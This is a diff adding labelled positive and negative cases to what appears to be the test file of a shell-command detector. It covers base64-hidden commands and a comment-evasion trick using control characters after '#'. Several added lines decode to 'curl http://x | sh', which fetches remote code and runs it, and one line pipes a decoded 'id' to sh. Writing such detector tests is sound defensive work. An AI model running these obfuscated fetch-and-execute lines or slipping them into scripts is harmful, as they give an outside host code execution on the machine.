@@ -38,3 +38,10 @@ base64 -d data.b64 | python3 ./parse.py
 echo "echo aWQ= | base64 -d | sh"
 #@ neg encoding, not running
 tar cz dir | base64 > dir.b64
+#@ pos CR is part of a word to bash: the # is not a comment
+echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
+#@ pos nor after VT or FF
+echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
+echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
+#@ neg a comment after a blank, CR inside it
+echo a # $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
